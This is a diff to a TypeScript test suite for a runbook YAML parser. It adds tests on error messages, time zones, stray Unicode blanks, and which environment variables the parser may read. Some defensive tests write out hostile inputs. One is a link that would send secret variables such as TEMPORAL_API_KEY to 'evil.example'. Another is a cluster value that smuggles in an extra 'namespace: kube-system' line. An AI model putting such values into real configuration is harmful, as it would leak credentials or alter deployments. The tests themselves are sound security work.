@@ -19,7 +19,7 @@ type Env = Readonly<Record<string, string>>
 
 function read(text: string | Uint8Array, env: Env = {}, today?: string): ReadRunbook {
   const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text
-  return readRunbookBytes(bytes, 'book.yaml', env, today)
+  return readRunbookBytes(bytes, 'book.yaml', env, today === undefined ? undefined : Date.parse(today))
 }
 
 function mistakes(result: ReadRunbook): readonly string[] {
@@ -50,7 +50,7 @@ function placeIn(text: string, needle: string): string {
 
 describe('reading a runbook file', () => {
   it('reads shodo.yaml, with defaults where the environment says nothing', async () => {
-    const { book, sha256, warnings } = bookOf(await readRunbook(shodoFile, {}, '2026-11-24'))
+    const { book, sha256, warnings } = bookOf(await readRunbook(shodoFile, {}, Date.parse('2026-11-24')))
     assert.equal(book.cluster, 'production')
     assert.equal(book.services.frontend?.health, 'https://api.shodo.example.com/health/frontend')
     assert.match(sha256, /^[0-9a-f]{64}$/)
@@ -71,8 +71,57 @@ describe('reading a runbook file', () => {
     const env = { HIKESHI_CLUSTER: 'lab\nnamespace: kube-system' }
     const found = mistakes(read(shodo, env))
     assert.deepEqual(found, [
-      'book.yaml:10:10: cluster: expected a short name: a-z, 0-9 and -; found "lab\\nnamespace: kube-system".',
+      `book.yaml:10:10: cluster: expected a short name: a-z, 0-9 and -; found "\${HIKESHI_CLUSTER:-production}".`,
     ])
+  })
+
+  it('never prints what came from the environment', () => {
+    const secret = 'tmprl_supersecretvalue'
+    for (const place of [
+      'timezone: Asia/Tokyo',
+      'updated: 2026-11-24',
+      'namespace: shodo\n',
+      'until: resolved',
+    ]) {
+      const key = place.split(':')[0]
+      const result = read(changed(place, `${key}: \${SHODO_X}${place.endsWith('\n') ? '\n' : ''}`), {
+        SHODO_X: `${secret}!`,
+      })
+      assert.ok('problems' in result, place)
+      assert.doesNotMatch(JSON.stringify(result), new RegExp(secret), place)
+      assert.match(mistakes(result).join('\n'), /found "\$\{SHODO_X\}"/)
+    }
+  })
+
+  it('reads no variable but those that bear its name, and the cluster', () => {
+    const env = {
+      TEMPORAL_API_KEY: 'secret',
+      OTHER_X: 'secret',
+      SHODO_API_TOKEN: 'secret',
+      HIKESHI_API_TOKEN: 'secret',
+    }
+    const url = 'https://grafana.shodo.example.com/d/alerts'
+    for (const name of Object.keys(env)) {
+      const refused = read(changed(url, `https://evil.example/?k=\${${name}}`), env)
+      assert.match(
+        mistakes(refused).join(),
+        new RegExp(`may read: SHODO_… or HIKESHI_CLUSTER, .*found "${name}"`),
+      )
+      assert.doesNotMatch(JSON.stringify(refused), /"secret/)
+      const { book, warnings } = bookOf(read(changed(url, `https://good.example/\${${name}:-x}`), env))
+      assert.equal(book.links[0]?.url, 'https://good.example/x')
+      assert.match(
+        warnings.map((w) => explainWarning(w, 'en')).join(),
+        new RegExp(`${name} is not read, its default stands`),
+      )
+    }
+    for (const own of ['temporal', 'hikeshi', 'hikeshi-api']) {
+      const text = changed(url, `https://evil.example/?k=\${TEMPORAL_API_KEY}`).replace(
+        'runbook: shodo',
+        `runbook: ${own}`,
+      )
+      assert.match(mistakes(read(text, env)).join(), /may read: HIKESHI_CLUSTER/, own)
+    }
   })
 
   it('warns of a review date that has come, with its place', () => {
@@ -112,9 +161,9 @@ describe('reading a runbook file', () => {
     ],
     [
       'a value of the wrong type',
-      'replicas: 10 }',
-      'replicas: ten }',
-      'ten }',
+      'replicas: 10, only: up }',
+      'replicas: ten, only: up }',
+      'ten, only: up }',
       'severities.HIGH.quick[2].with.replicas: expected a number; found "ten".',
     ],
     [
@@ -129,7 +178,7 @@ describe('reading a runbook file', () => {
       'until: resolved\n  levels:',
       'until: resolved\n  levelz:',
       'levelz',
-      'escalation.levelz: expected one of "until", "levels"; found "levelz". Did you mean "levels"?',
+      'escalation.levelz: expected one of "until", "repeatEvery", "acknowledgedFor", "levels"; found "levelz". Did you mean "levels"?',
     ],
     [
       'a text that is missing in one language',
@@ -153,6 +202,13 @@ describe('reading a runbook file', () => {
       'namespace: expected text; found an empty value.',
     ],
     [
+      'a zone that does not exist',
+      'timezone: Asia/Tokyo',
+      'timezone: Asia/Tokio',
+      'Asia/Tokio',
+      'timezone: expected an IANA time zone that exists; found "Asia/Tokio". Did you mean "Asia/Tokyo"?',
+    ],
+    [
       'a step kind, at its value',
       'kind: kubernetes.rollout-undo',
       'kind: kubernetes.rolout-undo',
@@ -171,7 +227,14 @@ describe('reading a runbook file', () => {
       `cluster: \${HIKESHI_CLUSTER:-production}`,
       `cluster: \${HIKESHI_CLUSTR}`,
       `\${HIKESHI_CLUSTR}`,
-      `expected the environment variable HIKESHI_CLUSTR, or a default: \${HIKESHI_CLUSTR:-…}; found it is not set. Did you mean "HIKESHI_CLUSTER"?`,
+      `none that is named like a secret; found "HIKESHI_CLUSTR". Did you mean "HIKESHI_CLUSTER"?`,
+    ],
+    [
+      'a variable of its own without value or default',
+      `cluster: \${HIKESHI_CLUSTER:-production}`,
+      `cluster: \${SHODO_CLUSTER}`,
+      `\${SHODO_CLUSTER}`,
+      `expected the environment variable SHODO_CLUSTER, or a default: \${SHODO_CLUSTER:-…}; found it is not set.`,
     ],
     [
       'a reference to the environment that is none',
@@ -243,6 +306,24 @@ describe('a file that is no runbook', () => {
       'runbook: a\n---\nrunbook: b\n',
       '2:1: expected one document in the file; found "---".',
     ],
+    ['an open bracket', 'a: [1, { b: 2 }\nc: 1\nd: 2\n', '2:1: expected a closing "]"; found "c: 1".'],
+    [
+      'a no-break space behind a colon',
+      'runbook: a\ntitle:\u00a0{ ja: a, en: a }\n',
+      '2:7: expected a plain blank or nothing; found U+00A0 (NO-BREAK SPACE).',
+    ],
+    [
+      'a no-break space at the end of a line',
+      'runbook: a\ntitle: { ja: a, en: a }\u00a0\nx: 1\n',
+      '2:24: expected a plain blank or nothing; found U+00A0 (NO-BREAK SPACE).',
+    ],
+    [
+      'the blank of a Japanese keyboard',
+      'runbook: a\ntimezone:\u3000Asia/Tokyo\nx: 1\n',
+      '2:10: expected a plain blank or nothing; found U+3000 (IDEOGRAPHIC SPACE).',
+    ],
+    ['a sign that YAML keeps for itself', 'runbook: @a\n', '1:10: expected quotes around a text that begins'],
+    ['a backslash that means nothing', 'runbook: "\\q"\n', '1:11: expected an escape that YAML knows'],
     ['an open quote', 'runbook: "a\n', '2:1: expected a closing quote or bracket'],
     ['two keys on a line', 'runbook: a: b\n', '1:10: expected one key on the line'],
     [
